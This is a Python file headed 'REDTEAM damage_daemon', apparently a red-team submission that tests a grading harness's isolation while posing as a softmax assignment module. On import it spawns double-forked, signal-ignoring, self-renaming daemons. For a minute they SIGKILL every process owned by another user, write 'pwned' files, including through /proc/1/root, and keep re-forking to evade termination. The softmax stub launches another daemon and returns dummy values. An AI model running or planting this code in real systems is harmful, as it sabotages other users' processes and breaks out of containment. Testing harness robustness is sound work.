"""REDTEAM damage_daemon: leave processes behind that strike later.

Attack: a double-forked, setsid daemon that ignores every catchable signal, renames
itself, and later (while other submissions are graded) tries to write to the results,
kill processes and hold the CPU; plus a non-daemon thread, a child in its own process
group, and a process that re-forks itself every 50 ms to dodge being killed.
Bound: the baseline, and no process of it is alive after its submission ended.
"""
import ctypes
import os
import signal
import threading
import time

import numpy as np


def _name(s):
    try:
        ctypes.CDLL(None).prctl(15, s.encode(), 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


def _strike():
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGUSR1, signal.SIGPIPE):
        signal.signal(sig, signal.SIG_IGN)
    deadline = time.time() + 60
    while time.time() < deadline:
        for pid in os.listdir("/proc"):
            try:
                if os.stat(f"/proc/{pid}").st_uid != os.getuid():  # not its own kind: the grader
                    os.kill(int(pid), signal.SIGKILL)
            except (OSError, ValueError):
                pass
        for path in ("/tmp/../pwned.txt", "/proc/1/root/pwned.txt", "pwned.txt"):
            try:
                with open(path, "a") as f:
                    f.write("REDTEAM damage_daemon\n")
            except OSError:
                pass
        time.sleep(0.05)


def _daemon(tag):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            _name(tag)
            _strike()
        os._exit(0)


def _hopper():
    if os.fork() == 0:
        os.setpgid(0, 0)
        while True:
            _name("rt-hopper")
            time.sleep(0.05)
            if os.fork():
                os._exit(0)


_daemon("rt-daemon-load")
_hopper()
threading.Thread(target=_strike, daemon=False).start()


def softmax(x):
    _daemon("rt-daemon-call")
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)
